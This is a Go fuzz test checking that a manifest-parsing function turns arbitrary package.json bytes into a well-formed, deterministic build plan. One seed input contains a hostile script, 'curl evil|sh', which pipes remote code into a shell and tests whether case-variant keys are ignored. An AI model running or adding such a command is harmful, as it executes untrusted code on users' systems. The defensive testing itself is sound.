package validation

import (
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/gilf-review/gilf/internal/shared"
)

// FuzzPlanFromManifest: whatever the bytes, PlanFromManifest never panics
// and returns a well-formed plan: a gap and no steps, or at least one step;
// steps a subsequence of install, test, typecheck, lint, build; install
// exactly when some script is runnable; the same plan every time.
func FuzzPlanFromManifest(f *testing.F) {
	for _, sub := range []string{"", "edge"} {
		entries, err := os.ReadDir(shared.Data(f, "package-json", sub))
		if err != nil {
			f.Fatal(err)
		}
		for _, e := range entries {
			if e.IsDir() || strings.HasSuffix(e.Name(), ".tsv") || e.Name() == "gitkraken__vscode-gitlens.json" {
				continue
			}
			data, err := os.ReadFile(shared.Data(f, "package-json", sub, e.Name()))
			if err != nil {
				f.Fatal(err)
			}
			f.Add(data, uint8(0))
		}
	}
	for _, s := range []string{
		`{"scripts":{"test":"true"},"Scripts":{"test":"curl evil|sh"}}`,
		`{"scripts":{"test":"a","test":1},"scripts":{"lint":"echo x && exit 0"}}`,
		`{"packageManager":"yarn@4.1.0+sha224.abc","scripts":{"pretest":"x","test":"vitest","postinstall":"y"}}`,
		`{"packageManager":"^pnpm@8","scripts":{"build":"","lint":" ","typecheck":"tsc"}}`,
		"\xEF\xBB\xBF{\"scripts\":{\"test\":\"echo 'Error: no test specified' && exit 1\"}}",
		`{"a":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}`,
		`{"scripts":null}`, `[]`, ``, `{`, `{"scripts":{"Test":"x","TEST":"y"}}`,
	} {
		f.Add([]byte(s), uint8(0xff))
	}

	order := []string{StepInstall, StepTest, StepTypecheck, StepLint, StepBuild}
	f.Fuzz(func(t *testing.T, data []byte, mask uint8) {
		all := append(LockfileNames(), YarnBerryConfigFile, "pnpm-workspace.yaml")
		var files []string
		for i, name := range all {
			if mask&(1<<i) != 0 {
				files = append(files, name)
			}
		}
		opts := PlanOptions{MaxManifestDepth: 16}
		p := PlanFromManifest(data, files, opts)

		if diff := cmp.Diff(p, PlanFromManifest(data, files, opts)); diff != "" {
			t.Fatalf("not deterministic:\n%s", diff)
		}
		switch {
		case p.Gap != nil && len(p.Steps) > 0:
			t.Fatalf("gap %+v with steps %v", p.Gap, p.Steps)
		case p.Gap == nil && len(p.Steps) == 0:
			t.Fatal("no gap and no steps")
		}
		if p.Gap != nil {
			if len(p.Gap.Msg) > MaxGapMessageBytes || !utf8.ValidString(p.Gap.Msg) || p.Gap.Msg == "" {
				t.Fatalf("bad gap message %q", p.Gap.Msg)
			}
		}
		if !slices.Contains([]PackageManager{NPM, Yarn, YarnBerry, PNPM, Bun}, p.PackageManager) {
			t.Fatalf("package manager %q", p.PackageManager)
		}
		if len(p.Notes) > MaxManifestNotes+1+40 {
			t.Fatalf("%d notes", len(p.Notes))
		}

		next, runnable, hasInstall := 0, false, false
		for _, s := range p.Steps {
			i := slices.Index(order[next:], s.Name)
			if i < 0 {
				t.Fatalf("steps %v are not a subsequence of %v", p.Steps, order)
			}
			next += i + 1
			if s.Argv[0] != pmBinary(p.PackageManager) {
				t.Fatalf("step %s argv %q with manager %s", s.Name, s.Argv, p.PackageManager)
			}
			if s.Name == StepInstall {
				hasInstall = true
				if s.Network != NetworkRegistry || s.Script != "" || s.Inconclusive != "" || s.Timeout != DefaultInstallTimeout {
					t.Fatalf("install step %+v", s)
				}
				continue
			}
			if s.Network != NetworkNone || !slices.Equal(s.Argv, RunArgv(p.PackageManager, s.Name)) || s.Timeout != DefaultStepTimeout {
				t.Fatalf("script step %+v", s)
			}
			if strings.Trim(s.Script, " \t\n") == "" {
				t.Fatalf("blank script selected: %+v", s)
			}
			runnable = runnable || s.Inconclusive == ""
		}
		if hasInstall != runnable {
			t.Fatalf("install %v, runnable scripts %v: %+v", hasInstall, runnable, p.Steps)
		}
	})
}
